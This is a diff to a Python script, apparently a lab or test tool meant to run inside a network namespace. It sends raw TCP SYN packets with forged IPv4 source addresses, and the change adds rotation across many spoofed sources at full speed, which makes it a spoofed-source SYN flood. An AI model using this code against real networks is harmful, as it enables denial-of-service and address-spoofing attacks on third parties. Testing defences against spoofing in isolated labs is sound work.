@@ -1,8 +1,11 @@
 """Bare TCP SYNs with a forged IPv4 source, as a blind attacker sends them; run inside a
-namespace: ``python spoof.py SRC DST PORT COUNT``.  Needs a raw socket (root there)."""
+namespace: ``python spoof.py SRC DST PORT COUNT [SOURCES]``: COUNT SYNs from SRC, or from
+SOURCES consecutive addresses starting at SRC in turn (then as fast as it can).  Needs a
+raw socket (root there)."""
 
 from __future__ import annotations
 
+import ipaddress
 import random
 import socket
 import struct
@@ -30,12 +33,16 @@ def syn(src: str, dst: str, sport: int, dport: int) -> bytes:
     return ip + tcp
 
 
-def main(src: str, dst: str, port: int, count: int) -> None:
+def main(src: str, dst: str, port: int, count: int, sources: int = 1) -> None:
+    first = int(ipaddress.IPv4Address(src))
     with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
-        for _ in range(count):
-            sock.sendto(syn(src, dst, random.randint(20000, 60000), port), (dst, 0))
-            time.sleep(0.05)
+        for number in range(count):
+            source = str(ipaddress.IPv4Address(first + number % sources))
+            sock.sendto(syn(source, dst, random.randint(20000, 60000), port), (dst, 0))
+            if sources == 1:
+                time.sleep(0.05)
 
 
 if __name__ == "__main__":
-    main(sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]))
+    main(sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]),
+         *(int(arg) for arg in sys.argv[5:6]))
